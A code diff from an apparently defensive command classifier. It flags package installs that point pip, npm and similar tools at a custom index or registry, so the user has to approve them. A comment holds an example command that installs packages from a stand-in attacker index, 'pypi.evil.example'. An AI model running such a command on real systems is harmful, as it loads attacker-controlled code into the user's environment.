@@ -171,6 +171,12 @@ def _packages(tool: str, args: Sequence[str], text: str) -> list[Effect]:
         return [Effect("read", what=text)]
     if tool in ("npm", "pnpm", "yarn", "bun") and sub in ("test", "t", "run", "run-script"):
         return [Effect("execute", what=text, routine=True)]
+    source = _package_source(args)
+    if source and sub in ("install", "i", "add", "ci", "sync", "update", "upgrade", "up"):
+        # `pip install -r requirements.txt --index-url http://pypi.evil.example/simple`:
+        # the packages come from wherever the flag points, which must be the user's word
+        names = tuple(_package_name(o) for o in ops if o not in ("install", "add"))
+        return [Effect("configure", "external", what=text, objects=(source, *names))]
     if lockfile or requirements:
         # the project's own pinned dependencies
         return [Effect("execute", what=text, routine=True)]
@@ -184,6 +190,24 @@ def _packages(tool: str, args: Sequence[str], text: str) -> list[Effect]:
     if sub in ("publish", "upload") or (tool == "gem" and sub == "push"):
         return [_publish(tool, ops, text)]
     return [Effect("unknown", what=text)]
+
+
+#: Flags that say where packages are fetched from (pip, uv, npm, yarn, pnpm).
+_SOURCE_FLAGS = frozenset(
+    ["--index-url", "-i", "--extra-index-url", "--find-links", "-f", "--trusted-host",
+     "--registry", "--default-index", "--index"]
+)  # fmt: skip
+
+
+def _package_source(args: Sequence[str]) -> str:
+    """The package index or registry a command's flag points at, if any."""
+    for n, a in enumerate(args[:64]):
+        flag, eq, value = a.partition("=")
+        if flag in _SOURCE_FLAGS:
+            found = value if eq else (args[n + 1] if n + 1 < len(args) else "")
+            if found:
+                return found[:200]
+    return ""
 
 
 _VERSION_SPEC = re.compile(r"(?<=.)(?:@|==|>=|<=|~=|!=|\^|>|<|=|\[).*$")
